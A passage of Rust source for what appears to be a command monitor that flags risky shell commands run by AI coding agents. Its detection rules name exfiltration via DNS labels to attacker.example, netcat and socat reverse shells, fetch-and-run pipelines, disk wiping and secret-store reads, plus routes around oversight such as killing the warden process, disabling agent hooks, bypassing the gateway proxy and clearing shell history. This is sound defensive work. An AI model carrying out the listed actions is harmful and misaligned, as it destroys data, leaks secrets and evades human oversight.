                // a long label in front of a domain carries data, not a name
                // (`<base32 chunk>.v.attacker.example`)
                if let Some((label, rest)) = a.split_once('.') {
                    if label.len() >= 16 && label.bytes().all(|b| b.is_ascii_alphanumeric()) {
                        if let Some(d) = as_domain(rest) {
                            self.f
                                .flag(Flag::Egress, "DNS lookup carrying data in a label");
                            self.f.targets.hosts.insert(d);
                        }
                    }
                }
            }
            for a in args {
                if let Some(cut) = a
                    .rfind([')', '`'])
                    .filter(|_| a.contains("$(") || a.contains('`'))
                {
                    self.f.flag(
                        Flag::Egress,
                        "DNS lookup of a name built from command output",
                    );
                    let suffix = a[cut + 1..].trim_start_matches('.');
                    if let Some(d) = as_domain(suffix) {
                        self.f.targets.hosts.insert(d);
                    }
                }
            }
            self.dns_label_from_variable(args);
        }
        self.env_and_redirects(c);
        // `sudo -n true`: a check whether a password is needed, which runs nothing
        let no_op = matches!(prog.as_str(), "true" | ":") && args.is_empty();
        for w in ["sudo", "doas", "pkexec", "run0"] {
            if c.has_wrapper(w) && !no_op {
                self.f
                    .flag(Flag::PrivilegeEscalation, format!("runs {prog} with {w}"));
            }
        }
        // URLs anywhere in the arguments
        for a in args {
            if a.contains("://") {
                for u in find_urls(a) {
                    self.url(&u);
                }
            }
        }
        // program was itself downloaded earlier in this script
        if self.downloaded.iter().any(|d| *d == self.norm(&c.argv[0]))
            || ((shell_like(&prog) || interpreter(&prog))
                && args.iter().any(|a| self.downloaded.contains(&self.norm(a))))
        {
            self.f
                .flag(Flag::RemoteCode, "executes a file it just downloaded");
            self.f
                .flag(Flag::DangerousCommand, "executes a file it just downloaded");
        }
        // process / command substitution feeding an interpreter
        if shell_like(&prog)
            || interpreter(&prog)
            || matches!(prog.as_str(), "source" | "." | "eval")
        {
            for a in args {
                let l = a.to_ascii_lowercase();
                if (l.starts_with("<(") || l.contains("$(") || l.contains('`'))
                    && (l.contains("curl") || l.contains("wget") || l.contains("fetch"))
                {
                    self.f.flag(
                        Flag::RemoteCode,
                        format!("{prog} runs code fetched by a substitution"),
                    );
                    self.f.flag(
                        Flag::DangerousCommand,
                        format!("{prog} runs code fetched by a substitution"),
                    );
                }
            }
        }

        if let Some(body) = &c.heredoc {
            // `kubectl apply -f - <<EOF`, `cat > main.tf <<EOF`: the body is what gets applied
            self.written_grant("", "", body);
        }
        self.windows_credential_store(&prog, args);
        self.fetches_and_runs_script(&prog, args);
        self.sweep_feeds_reader(c, idx, pipeline);
        let e = match prog.as_str() {
            "rm" | "rmdir" | "unlink" | "shred" | "srm" | "trash" | "trash-put" => {
                let recursive = args.iter().any(|a| {
                    a == "--recursive"
                        || (a.starts_with('-')
                            && !a.starts_with("--")
                            && (a.contains('r') || a.contains('R')))
                }) || prog == "rmdir";
                if args.iter().any(|a| a == "--no-preserve-root") {
                    self.f.flag(Flag::DangerousCommand, "rm --no-preserve-root");
                }
                for a in positional(args, &[]) {
                    let n = self.path(a, Access::Delete);
                    if recursive && paths::catastrophic_delete_target(&n, self.p) {
                        self.f.flag(
                            Flag::DangerousCommand,
                            format!("recursive delete of {}", display_path(a, &n)),
                        );
                    } else if recursive && self.unguarded_variable_root(a) {
                        self.f.flag(
                            Flag::DangerousCommand,
                            format!("recursive delete of {a}: the filesystem root if the variable is unset"),
                        );
                    }
                }
                Effect::Write
            }
            "find" => {
                let deleting = args.iter().any(|a| a == "-delete")
                    || args.windows(2).any(|w| {
                        (w[0] == "-exec" || w[0] == "-execdir")
                            && matches!(w[1].as_str(), "rm" | "shred" | "unlink")
                    });
                let roots: Vec<&String> = args
                    .iter()
                    .take_while(|a| !a.starts_with('-') && *a != "(" && *a != "!")
                    .collect();
                let roots_owned: Vec<String> = roots.iter().map(|r| (*r).clone()).collect();
                let filtered = args.iter().any(|a| {
                    matches!(
                        a.as_str(),
                        "-name"
                            | "-iname"
                            | "-path"
                            | "-ipath"
                            | "-regex"
                            | "-newer"
                            | "-mtime"
                            | "-mmin"
                            | "-size"
                            | "-user"
                            | "-empty"
                    )
                });
                for r in roots {
                    let n = self.path(
                        r,
                        if deleting {
                            Access::Delete
                        } else {
                            Access::Meta
                        },
                    );
                    if deleting
                        && (!filtered || n == "/" || n == "/*")
                        && paths::catastrophic_delete_target(&n, self.p)
                    {
                        self.f.flag(
                            Flag::DangerousCommand,
                            format!("find deletes under {}", display_path(r, &n)),
                        );
                    }
                }
                self.find_prints_credential_stores(args, &roots_owned);
                if deleting {
                    Effect::Write
                } else {
                    Effect::Read
                }
            }
            "dd" => {
                for a in args {
                    if let Some(of) = a.strip_prefix("of=") {
                        if is_block_device(of) {
                            self.f.flag(
                                Flag::DangerousCommand,
                                format!("dd writes to block device {of}"),
                            );
                            self.f
                                .flag(Flag::Destructive, format!("dd writes to block device {of}"));
                        } else {
                            self.path(of, Access::Write);
                        }
                    } else if let Some(inp) = a.strip_prefix("if=") {
                        if !inp.starts_with("/dev/") {
                            self.path(inp, Access::Read);
                        }
                    }
                }
                Effect::Write
            }
            p if p.starts_with("mkfs")
                || matches!(
                    p,
                    "wipefs" | "fdisk" | "sfdisk" | "parted" | "mkswap" | "sgdisk"
                ) =>
            {
                if args.iter().any(|a| a.starts_with("/dev/")) {
                    self.f
                        .flag(Flag::DangerousCommand, format!("{p} on a block device"));
                    self.f
                        .flag(Flag::Destructive, format!("{p} on a block device"));
                }
                Effect::Write
            }
            "shutdown" | "reboot" | "halt" | "poweroff" => {
                self.f
                    .flag(Flag::DangerousCommand, format!("{prog} the machine"));
                Effect::Execute
            }
            "chmod" | "chown" | "chgrp" | "setfacl" | "chattr" | "chflags" => {
                self.permissions(&prog, args);
                Effect::Write
            }
            // listing one's sudo rights, or dropping the cached credential, gains nothing
            "sudo"
                if !args.is_empty()
                    && args.iter().all(|a| {
                        matches!(
                            a.as_str(),
                            "-l" | "-ll"
                                | "--list"
                                | "-k"
                                | "-K"
                                | "--reset-timestamp"
                                | "--remove-timestamp"
                                | "-V"
                                | "--version"
                                | "-n"
                                | "--non-interactive"
                        )
                    })
                    && !args
                        .iter()
                        .all(|a| matches!(a.as_str(), "-n" | "--non-interactive")) =>
            {
                Effect::Read
            }
            "sudo" | "su" | "doas" | "pkexec" | "run0" | "runas" => {
                self.f
                    .flag(Flag::PrivilegeEscalation, format!("runs {prog}"));
                Effect::Execute
            }
            "usermod" | "useradd" | "adduser" | "groupadd" | "gpasswd" | "passwd" | "visudo"
            | "chpasswd" | "newgrp" | "setcap" | "dscl" | "net" => {
                self.f.flag(
                    Flag::PrivilegeEscalation,
                    format!("changes accounts or capabilities ({prog})"),
                );
                Effect::Write
            }
            "setenforce" => {
                self.f
                    .flag(Flag::PrivilegeEscalation, "changes SELinux enforcement");
                self.f
                    .flag(Flag::OversightTamper, "changes SELinux enforcement");
                Effect::Write
            }
            "kill" | "pkill" | "killall" | "taskkill" | "skill" | "pkill.exe" => {
                if c.argv
                    .iter()
                    .any(|a| a.to_ascii_lowercase().contains("warden"))
                {
                    self.f
                        .flag(Flag::OversightTamper, "kills the warden process");
                }
                Effect::Execute
            }
            "systemctl" | "service" | "launchctl" | "rc-service" | "sv" | "sc" | "sc.exe" => {
                let l: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
                // `sc config NAME start= disabled` and `sc delete NAME` switch a Windows service off
                let stops = l.iter().any(|a| {
                    matches!(
                        a.as_str(),
                        "stop"
                            | "disable"
                            | "disabled"
                            | "mask"
                            | "unload"
                            | "kill"
                            | "bootout"
                            | "remove"
                            | "delete"
                    )
                });
                let monitor = l.iter().any(|a| {
                    [
                        "warden",
                        "auditd",
                        "rsyslog",
                        "syslog",
                        "journald",
                        "falcon",
                        "osquery",
                        "auditbeat",
                        "sysmon",
                    ]
                    .iter()
                    .any(|m| a.contains(m))
                });
                if stops && monitor {
                    self.f
                        .flag(Flag::OversightTamper, "stops a monitoring service");
                }
                Effect::Write
            }
            "auditctl" => {
                if args.windows(2).any(|w| w[0] == "-e" && w[1] == "0")
                    || args.iter().any(|a| a == "-D")
                {
                    self.f.flag(Flag::OversightTamper, "disables audit logging");
                }
                Effect::Write
            }
            "history" => {
                if args.iter().any(|a| a == "-c" || a == "-d")
                    || args.windows(2).any(|w| w[0] == "-w" && w[1] == "/dev/null")
                {
                    self.f.flag(Flag::OversightTamper, "clears shell history");
                }
                Effect::Read
            }
            "set" => {
                if args.windows(2).any(|w| w[0] == "+o" && w[1] == "history") {
                    self.f
                        .flag(Flag::OversightTamper, "turns off shell history");
                }
                Effect::Read
            }
            "unset" => {
                for a in args {
                    if a.starts_with("WARDEN_")
                        || matches!(a.as_str(), "HISTFILE" | "PROMPT_COMMAND")
                    {
                        self.f.flag(Flag::OversightTamper, format!("unsets {a}"));
                    } else if routes_through_gateway(a) {
                        self.f.flag(
                            Flag::OversightTamper,
                            format!("unsets {a}, which routes traffic through the gateway"),
                        );
                    }
                }
                Effect::Read
            }
            "export" | "declare" | "typeset" | "setenv" => {
                for a in args {
                    if let Some((k, v)) = a.split_once('=') {
                        self.check_env(k, v);
                    }
                }
                Effect::Read
            }
            "crontab" => {
                if args.iter().any(|a| a == "-l") {
                    Effect::Read
                } else if args.iter().any(|a| a == "-r") {
                    self.f.flag(Flag::Destructive, "removes the crontab");
                    Effect::Write
                } else {
                    if !self.crontab_shows_harmless_entry(args) {
                        self.f
                            .flag(Flag::DangerousCommand, "installs a crontab (persistence)");
                    }
                    Effect::Write
                }
            }
            "at" | "batch" => {
                self.f
                    .flag(Flag::DangerousCommand, "schedules a job (persistence)");
                Effect::Write
            }
            "curl" => self.curl(args),
            "wget" => self.wget(args),
            "http" | "https" | "xh" | "xhs" => self.httpie(args),
            "nc" | "ncat" | "netcat" | "telnet" => {
                let exec = args.iter().any(|a| {
                    matches!(
                        a.as_str(),
                        "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
                    ) || (a.starts_with('-')
                        && !a.starts_with("--")
                        && a.contains('e')
                        && a.len() <= 4)
                });
                let piped_to_shell = pipeline
                    .get(idx + 1..)
                    .is_some_and(|rest| rest.iter().any(|n| shell_like(&n.program())));
                if exec || piped_to_shell {
                    self.f
                        .flag(Flag::DangerousCommand, format!("{prog} reverse/bind shell"));
                    self.f
                        .flag(Flag::RemoteCode, format!("{prog} reverse/bind shell"));
                }
                for a in positional(args, &["-p", "-s", "-w", "-q", "-i", "-e", "-c"]) {
                    if a.parse::<u16>().is_err() {
                        self.host(a);
                    }
                }
                if args.iter().any(|a| a == "-z") {
                    Effect::Read
                } else if args.iter().any(|a| a == "-l" || a.starts_with("-l")) && !exec {
                    Effect::Execute
                } else {
                    self.f
                        .flag(Flag::Egress, format!("{prog} sends data to a remote host"));
                    Effect::Egress
                }
            }
            "socat" => {
                let l: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
                if l.iter()
                    .any(|a| a.contains("exec:") || a.contains("system:"))
                {
                    self.f
                        .flag(Flag::DangerousCommand, "socat exec (reverse shell)");
                    self.f.flag(Flag::RemoteCode, "socat exec (reverse shell)");
                }
                for a in &l {
                    if let Some(rest) = a
                        .strip_prefix("tcp:")
                        .or_else(|| a.strip_prefix("tcp4:"))
                        .or_else(|| a.strip_prefix("openssl:"))
                    {
                        if let Some(h) = rest.split(':').next() {
                            self.host(h);
                        }
                    }
                }
                Effect::Egress
            }
            "ssh" | "mosh" => {
                let pos = positional(
                    args,
                    &[
                        "-i", "-p", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-c", "-m", "-b",
                        "-E", "-S", "-W", "-w", "-O", "-Q", "-B", "-e", "-I",
                    ],
                );
                if let Some(h) = pos.first() {
                    self.host(h.rsplit('@').next().unwrap_or(h));
                }
                if idx > 0 {
                    self.f
                        .flag(Flag::Egress, "pipes data to a remote host over ssh");
                    Effect::Egress
                } else {
                    Effect::Execute
                }
            }
            "scp" | "rsync" | "sftp" | "rclone" => self.copy_remote(&prog, args),
            "ftp" | "lftp" | "tftp" => {
                self.f.flag(Flag::Egress, format!("{prog} transfer"));
                Effect::Egress
            }
            "mail" | "mailx" | "sendmail" | "mutt" | "swaks" | "msmtp" | "neomutt" => {
                let mut it = args.iter();
                while let Some(a) = it.next() {
                    if matches!(a.as_str(), "-a" | "-A" | "--attach") {
                        if let Some(f) = it.next() {
                            self.path(f, Access::Read);
                        }
                    } else if let Some(e) = as_email(a) {
                        self.email(e);
                    }
                }
                self.f.flag(Flag::Egress, format!("{prog} sends email"));
                Effect::Egress
            }
            "git" => self.git(args),
            "gh" => self.gh(args),
            "aws" => self.aws(args),
            "gcloud" | "gsutil" => self.gcloud(&prog, args),
            "az" => {
                let j = args.join(" ").to_ascii_lowercase();
                if j.contains("role assignment create") || j.contains("credential reset") {
                    self.f
                        .flag(Flag::PrivilegeEscalation, "Azure role or credential change");
                    Effect::Write
                } else if j.contains("keyvault secret show") || j.contains("get-access-token") {
                    self.f
                        .flag(Flag::CredentialStoreRead, "reads an Azure secret or token");
                    Effect::Read
                } else {
                    Effect::Execute
                }
            }
            "kubectl" | "oc" => self.kubectl(args),
            "docker" | "podman" | "nerdctl" => self.docker(args),
            "terraform" | "tofu" | "pulumi" => {
                let sub = positional(args, &["-chdir", "-var", "-var-file"])
                    .first()
                    .map(|s| s.as_str())
                    .unwrap_or("");
                match sub {
                    "destroy" => {
                        self.f.flag(Flag::Destructive, format!("{prog} destroy"));
                        Effect::Write
                    }
                    "apply" | "up" | "import" | "taint" => Effect::Write,
                    "plan" | "show" | "output" | "validate" | "fmt" | "preview" | "graph" => {
                        Effect::Read
                    }
                    _ => Effect::Execute,
                }
            }
            "npm" | "pnpm" | "yarn" | "bun" | "cargo" | "poetry" | "gem" | "twine" | "pip"
            | "pip3" | "uv" | "go" | "dotnet" | "mvn" | "gradle" => {
                let sub = positional(args, &[])
                    .first()
                    .map(|s| s.to_ascii_lowercase())
                    .unwrap_or_default();
                match sub.as_str() {
                    "publish" | "upload" | "push" | "release" | "deploy" => {
                        self.f
                            .flag(Flag::Egress, format!("{prog} {sub} publishes a package"));
                        Effect::Egress
                    }
                    "install" | "i" | "add" | "ci" | "update" | "upgrade" | "uninstall"
                    | "remove" | "rm" | "sync" | "get" => Effect::Write,
                    _ => Effect::Execute,
                }
            }
            "security" => {
                let sub = args.first().map(String::as_str).unwrap_or("");
                if matches!(
                    sub,
                    "find-generic-password"
                        | "find-internet-password"
                        | "dump-keychain"
                        | "export"
                        | "find-key"
                ) {
                    self.f.flag(
                        Flag::CredentialStoreRead,
                        format!("reads the keychain (security {sub})"),
                    );
                    Effect::Read
                } else {
                    Effect::Execute
                }
            }
            "secret-tool" | "pass" | "gopass" | "op" | "bw" | "lpass" | "doppler" | "vault"
            | "keyring" | "chamber" | "sops" => {
                let sub = args
                    .first()
                    .map(|s| s.to_ascii_lowercase())
                    .unwrap_or_default();
                let reads = match prog.as_str() {
                    "secret-tool" => sub == "lookup" || sub == "search",
                    "pass" | "gopass" => {
                        sub.is_empty()
                            || sub == "show"
                            || !sub.starts_with('-')
                                && !matches!(
                                    sub.as_str(),
                                    "ls" | "list" | "insert" | "generate" | "init" | "rm" | "git"
                                )
                    }
                    "op" => matches!(sub.as_str(), "read" | "item" | "inject" | "run"),
                    "bw" | "lpass" => matches!(sub.as_str(), "get" | "show" | "export"),
                    "doppler" => matches!(sub.as_str(), "secrets" | "run"),
                    "vault" => matches!(sub.as_str(), "read" | "kv" | "token" | "login" | "print"),
                    "keyring" => sub == "get",
                    "chamber" => matches!(sub.as_str(), "read" | "export" | "exec"),
                    "sops" => args.iter().any(|a| a == "-d" || a == "--decrypt"),
                    _ => false,
                };
                if reads {
                    self.f.flag(
                        Flag::CredentialStoreRead,
                        format!("reads secrets with {prog}"),
                    );
                    Effect::Read
                } else {
                    Effect::Execute
                }
            }
            "source" | "." => {
                for a in positional(args, &[]) {
                    self.path(a, Access::Use);
                }
                Effect::Execute
            }
            "cp" | "install" | "ditto" => {
                let pos = positional(args, &["-t", "--target-directory", "-S", "-m", "-o", "-g"]);
                if let Some((dst, srcs)) = pos.split_last() {
                    for s in srcs {
                        self.path(s, Access::Read);
                    }
                    let d = self.path(dst, Access::Write);
                    let copies_a_shell = srcs.iter().any(|s| {
                        let base = s.rsplit('/').next().unwrap_or(s);
                        shell_like(base) || interpreter(base)
                    });
                    if copies_a_shell && self.shell_copies.len() < 8 {
                        self.shell_copies.push(d);
                    }
                }
                Effect::Write
            }
            "mv" => {
                let pos = positional(args, &["-t", "--target-directory", "-S"]);
                if let Some((dst, srcs)) = pos.split_last() {
                    // a hook program renamed, even beside itself, no longer runs under the
                    // name the hook configuration calls
                    for s in srcs {
                        let n = self.path(s, Access::Write);
                        self.hook_program_removed(s, &n);
                    }
                    self.path(dst, Access::Write);
                }
                Effect::Write
            }
            "ln" | "touch" | "mkdir" | "truncate" | "tee" | "patch" => {
                for a in positional(args, &["-s", "--size", "-m", "--mode", "-p", "-i"]) {
                    if prog == "truncate"
                        && (a.starts_with('-') || a.chars().all(|c| c.is_ascii_digit()))
                    {
                        continue;
                    }
                    self.path(a, Access::Write);
                }
                if prog == "truncate" {
                    self.f.flag(Flag::Destructive, "truncates files");
                }
                Effect::Write
            }
            "sed" | "perl" | "gsed"
                if args.iter().any(|a| {
                    a == "-i" || a.starts_with("-i") || a.starts_with("-pi") || a == "--in-place"
                }) =>
            {
                let pos = positional(args, &["-e", "-f"]);
                for a in pos
                    .iter()
                    .skip(usize::from(!args.iter().any(|a| a == "-e")))
                {
                    if looks_like_path(a) || !a.contains(' ') && !a.starts_with('s') {
                        self.path(a, Access::Write);
                    }
                }
                Effect::Write
            }
            "claude" | "codex" | "gemini" | "cursor-agent" | "aider" | "amp" | "opencode" => {
                if turns_hooks_off(args) {
                    self.f.flag(
                        Flag::OversightTamper,
                        format!("turns the agent's hooks off ({prog} hooks …)"),
                    );
                }
                Effect::Execute
            }
            _ => {
                let meta = META_PROGRAMS.contains(&prog.as_str());
                let readonly = READONLY_PROGRAMS.contains(&prog.as_str());
                let flags_with_value: &[&str] = &[
                    "-e",
                    "-f",
                    "-m",
                    "-A",
                    "-B",
                    "-C",
                    "-n",
                    "--env-file",
                    "-o",
                    "--output",
                    "-d",
                    "-t",
                    "-k",
                    "-l",
                    "-p",
                ];
                // a search's first operand is its pattern, unless a flag gave the pattern
                let search = matches!(
                    prog.as_str(),
                    "grep" | "rg" | "egrep" | "fgrep" | "ag" | "ack" | "git-grep"
                );
                let mut pattern_pending = search
                    && !args.iter().any(|a| {
                        matches!(a.as_str(), "-e" | "-f" | "--regexp" | "--file" | "--files")
                            || a.starts_with("--regexp=")
                            || a.starts_with("--file=")
                    });
                if search {
                    self.secret_sweep(args);
                }
                let mut it = args.iter().peekable();
                while let Some(a) = it.next() {
                    if search && matches!(a.as_str(), "-A" | "-B" | "-C" | "-m" | "-t" | "-g") {
                        it.next();
                        continue;
                    }
                    if pattern_pending && !a.starts_with('-') {
                        pattern_pending = false;
                        continue;
                    }
                    if a == "--env-file" {
                        if let Some(f) = it.next() {
                            self.path(f, Access::Use);
                        }
                        continue;
                    }
                    if a.starts_with('-') {
                        if let Some((_, v)) = a.split_once('=') {
                            if looks_like_path(v) && !v.contains("://") {
                                self.path(v, if meta { Access::Meta } else { Access::Read });
                            }
                        } else if flags_with_value.contains(&a.as_str())
                            && matches!(prog.as_str(), "grep" | "rg" | "egrep" | "fgrep" | "ag")
                            && a == "-e"
                        {
                            it.next();
                        }
                        continue;
                    }
                    if a.contains("://")
                        || a.starts_with("<(")
                        || a.starts_with(">(")
                        || a.starts_with("$(")
                    {
                        continue;
                    }
                    // a listing's operands are folders, however they are spelled (`ls exports`)
                    let listed = matches!(prog.as_str(), "ls" | "tree" | "dir");
                    if looks_like_path(a) || listed {
                        self.path(a, if meta { Access::Meta } else { Access::Read });
                    }
                }
                if shell_like(&prog) || interpreter(&prog) {
                    Effect::Execute
                } else if readonly || meta {
                    Effect::Read
                } else {
                    Effect::Execute
                }
            }
        };
        e
    }

    fn env_and_redirects(&mut self, c: &Command) {
        for (k, v) in &c.env {
            self.check_env(k, v);
        }
        for k in &c.unset_env {
            if k.starts_with("WARDEN_") || k == "HISTFILE" || routes_through_gateway(k) {
                self.f.flag(Flag::OversightTamper, format!("unsets {k}"));
            }
        }
        for r in &c.redirects {
            let t = r.target.as_str();
            if t.starts_with('&') || t.chars().all(|ch| ch.is_ascii_digit()) || t.is_empty() {
                continue;
            }
            if r.op.ends_with("<<<") {
                continue;
            }
            if r.op.contains('>') {
                if matches!(t, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty") {
                    continue;
                }
                if t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/") {
                    continue; // flagged at text level
                }
                if is_block_device(t) {
                    self.f.flag(
                        Flag::DangerousCommand,
                        format!("writes to block device {t}"),
                    );
                    continue;
                }
                if t.ends_with(".bash_history") || t.ends_with(".zsh_history") {
                    self.f
                        .flag(Flag::OversightTamper, "overwrites shell history");
                }
                self.path(t, Access::Write);
            } else if r.op.contains('<') && !t.starts_with("/dev/") {
                self.path(t, Access::Read);
            }
        }
    }

    fn check_env(&mut self, k: &str, v: &str) {
        if k.starts_with("WARDEN_") {
            self.f.flag(Flag::OversightTamper, format!("changes {k}"));
        } else if routes_through_gateway(k)
            && url_host(v.trim_matches(['"', '\''])).is_some_and(|h| !is_loopback_host(&h))
        {
            // pointing a model API's base URL or the proxy at a remote host goes around a
            // gateway listening on loopback
            self.f.flag(
                Flag::OversightTamper,
                format!("points {k} at a remote host, around the gateway"),
            );
        } else if routes_through_gateway(k)
            && k != "NO_PROXY"
            && v.trim_matches(['"', '\'']).is_empty()
        {
            // `HTTPS_PROXY= curl …`: the command runs without the proxy the gateway set
            self.f.flag(
                Flag::OversightTamper,
                format!("clears {k} for the command, around the gateway"),
            );
        } else if (k == "HISTFILE" && (v.is_empty() || v == "/dev/null"))
            || (matches!(k, "HISTSIZE" | "HISTFILESIZE" | "SAVEHIST") && v == "0")
        {
            self.f.flag(
                Flag::OversightTamper,
                format!("disables shell history ({k})"),
            );
        } else if k == "CLAUDE_CODE_DISABLE_HOOKS" || k == "DISABLE_HOOKS" {
            self.f
                .flag(Flag::OversightTamper, format!("disables agent hooks ({k})"));
        }
    }

    fn permissions(&mut self, prog: &str, args: &[String]) {
        // `setfacl -m ENTRY PATH`: the entry is the flag's value, not a path
        let pos = positional(args, &["--reference", "-m", "-x", "--modify", "--remove"]);
        let recursive = args
            .iter()
            .any(|a| a == "-R" || a == "--recursive" || (a.starts_with('-') && a.contains('R')));
        let (mode, targets): (&str, &[&String]) = match prog {
            "chmod" | "chown" | "chgrp" | "chflags" => match pos.split_first() {
                Some((m, rest)) => (m.as_str(), rest),
                None => return,
            },
            "setfacl" => ("", &pos[..]),
            _ => (
                args.iter()
                    .find(|a| a.starts_with('+') || a.starts_with('-'))
                    .map(String::as_str)
                    .unwrap_or(""),
                &pos[..],
            ),
        };
        let setuid = prog == "chmod"
            && (mode.contains("+s")
                || mode.contains("=s")
                || mode.contains("u+s")
                || mode.contains("g+s")
                || (mode.len() == 4
                    && mode.chars().all(|c| c.is_ascii_digit())
                    && matches!(mode.as_bytes()[0], b'2' | b'4' | b'6' | b'7')));
        if setuid {
            self.f.flag(
                Flag::PrivilegeEscalation,
                format!("sets setuid/setgid bits ({mode})"),
            );
            for t in targets {
                let n = self.norm(t);
                let base = n.rsplit('/').next().unwrap_or(&n);
                if shell_like(base) || interpreter(base) || self.shell_copies.contains(&n) {
                    self.f.flag(
                        Flag::DangerousCommand,
                        format!("makes a shell setuid ({})", display_path(t, &n)),
                    );
                }
            }
        }
        let world = prog == "chmod"
            && (mode.ends_with("777")
                || mode.ends_with("666")
                || mode.contains("a+rwx")
                || mode.contains("o+w")
                || mode.ends_with("o+rwx"));
        let loosens = world
            || prog == "chmod"
                && (mode.ends_with('7')
                    || mode.ends_with('6')
                    || mode.ends_with('4')
                        && mode.len() >= 3
                        && mode.as_bytes()[mode.len() - 2] >= b'4'
                    || mode.contains("g+")
                    || mode.contains("o+")
                    || mode.contains("a+"));
        let to_root = matches!(prog, "chown" | "chgrp")
            && (mode.starts_with("root") || mode.starts_with("0:") || mode == "0");
        for t in targets {
            let n = self.path(t, Access::Write);
            let system = paths::sensitive_system_path(&n) && !n.contains("/.ssh");
            let ssh = n.contains("/.ssh");
            if system || (ssh && loosens) || to_root {
                self.f.flag(
                    Flag::PrivilegeEscalation,
                    format!("{prog} {mode} on {}", display_path(t, &n)),
                );
            }
            if !world && recursive && recursive_owner_change_breaks_system(prog, &n, self.p) {
                self.f.flag(
                    Flag::DangerousCommand,
                    format!("{prog} -R {mode} {}", display_path(t, &n)),
                );
            }
            if world && recursive && paths::catastrophic_delete_target(&n, self.p) {
                self.f.flag(
                    Flag::DangerousCommand,
                    format!("{prog} -R {mode} {}", display_path(t, &n)),
                );
            }
            if prog == "chattr" && mode.starts_with('-') && mode.contains('i') && system {
                self.f.flag(
                    Flag::PrivilegeEscalation,
                    format!("removes immutability of {n}"),
                );
            }
        }
    }

    fn curl(&mut self, args: &[String]) -> Effect {
        let mut sends = false;
        let mut it = args.iter();
        let mut urls: Vec<String> = Vec::new();
        while let Some(a) = it.next() {
            let (flag, inline) = match a.split_once('=') {
                Some((f, v)) if f.starts_with("--") => (f, Some(v.to_owned())),
                _ => (a.as_str(), None),
            };
            let mut value = || inline.clone().or_else(|| it.next().cloned());
            match flag {
                "-d" | "--data" | "--data-raw" | "--data-binary" | "--data-urlencode"
                | "--data-ascii" | "--json" => {
                    sends = true;
                    if let Some(v) = value() {
                        let file = v.strip_prefix('@').or_else(|| {
                            v.split_once("@")
                                .filter(|(k, _)| flag == "--data-urlencode" && !k.contains(' '))
                                .map(|(_, f)| f)
                        });
                        if let Some(f) = file.filter(|f| *f != "-") {
                            self.path(f, Access::Read);
                        }
                        let l = v.to_ascii_lowercase();
                        if l.contains("jsonrpc") && l.contains("tools/call") {
                            self.f.flag(
                                Flag::OversightTamper,
                                "calls an MCP server directly, around the gateway",
                            );
                        }
                    }
                }
                "-F" | "--form" | "--form-string" => {
                    sends = true;
                    if let Some(v) = value() {
                        if let Some((_, f)) = v.split_once("=@").or_else(|| v.split_once("=<")) {
                            let f = f.split(';').next().unwrap_or(f);
                            self.path(f, Access::Read);
                        }
                    }
                }
                "-T" | "--upload-file" => {
                    sends = true;
                    if let Some(v) = value() {
                        if v != "-" && v != "." {
                            self.path(&v, Access::Read);
                        }
                    }
                }
                "-X" | "--request" => {
                    if let Some(v) = value() {
                        let m = v.to_ascii_uppercase();
                        if matches!(m.as_str(), "POST" | "PUT" | "PATCH") {
                            sends = true;
                        } else if m == "DELETE" {
                            sends = true;
                            self.f.flag(Flag::Destructive, "HTTP DELETE");
                        }
                    }
                }
                "-o" | "--output" => {
                    if let Some(v) = value() {
                        let n = self.path(&v, Access::Write);
                        self.downloaded.push(n);
                    }
                }
                "-K" | "--config" | "--netrc-file" => {
                    if let Some(v) = value() {
                        self.path(&v, Access::Read);
                    }
                }
                "-H" | "--header" | "-u" | "--user" | "-A" | "--user-agent" | "-e"
                | "--referer" | "-b" | "--cookie" | "-c" | "--cookie-jar" | "-m" | "--max-time"
                | "--connect-timeout" | "-w" | "--write-out" | "-x" | "--proxy" | "--retry"
                | "-r" | "--range" | "--cacert" | "--cert" | "--key" | "-E" | "--resolve"
                | "--url" => {
                    let v = value();
                    if flag == "--url" {
                        if let Some(v) = v {
                            urls.push(v);
                        }
                    }
                }
                _ if !a.starts_with('-') => urls.push(a.clone()),
                _ => {}
            }
        }
        for u in &urls {
            if u.contains("://") {
                if !url_query(u).is_empty() {
                    sends = true;
                }
            } else if let Some(h) = u.split('/').next() {
                self.host(h);
                if u.contains('?') {
                    sends = true;
                }
            }
        }
        if sends {
            self.f.flag(Flag::Egress, "curl sends data");
            Effect::Egress
        } else {
            Effect::Read
        }
    }

    #[allow(clippy::collapsible_match)]
    fn wget(&mut self, args: &[String]) -> Effect {
        let mut sends = false;
        let mut it = args.iter();
        while let Some(a) = it.next() {
            let (flag, inline) = match a.split_once('=') {
                Some((f, v)) if f.starts_with("--") => (f, Some(v.to_owned())),
                _ => (a.as_str(), None),
            };
            let mut value = || inline.clone().or_else(|| it.next().cloned());
            match flag {
                "--post-data" | "--body-data" => {
                    sends = true;
                    value();
                }
                "--post-file" | "--body-file" => {
                    sends = true;
                    if let Some(v) = value() {
                        self.path(&v, Access::Read);
                    }
                }
                "--method" => {
                    if value().is_some_and(|m| {
                        matches!(
                            m.to_ascii_uppercase().as_str(),
                            "POST" | "PUT" | "PATCH" | "DELETE"
                        )
                    }) {
                        sends = true;
                    }
                }
                "-O" | "--output-document" => {
                    if let Some(v) = value() {
                        if v != "-" {
                            let n = self.path(&v, Access::Write);
                            self.downloaded.push(n);
                        }
                    }
                }
                "-i" | "--input-file" => {
                    if let Some(v) = value() {
                        self.path(&v, Access::Read);
                    }
                }
                _ if !a.starts_with('-') => {
                    if a.contains("://") {
                        if !url_query(a).is_empty() {
                            sends = true;
                        }
                    } else if let Some(h) = a.split('/').next() {
                        self.host(h);
                    }
                }
                _ => {}
            }
        }
        if sends {
            self.f.flag(Flag::Egress, "wget sends data");
            Effect::Egress
        } else {
            Effect::Read
        }
    }

    fn httpie(&mut self, args: &[String]) -> Effect {
        let mut sends = false;
        for a in positional(args, &["-a", "--auth", "-o", "--output"]) {
            let up = a.to_ascii_uppercase();
            if matches!(up.as_str(), "POST" | "PUT" | "PATCH" | "DELETE") {
                sends = true;
            } else if let Some((_, f)) = a
                .split_once('@')
                .filter(|(k, _)| !k.contains('/') && !k.contains(':'))
            {
                sends = true;
                self.path(f, Access::Read);
            } else if (a.contains('=') || a.contains(":=")) && !a.contains("://") {
                sends = true;
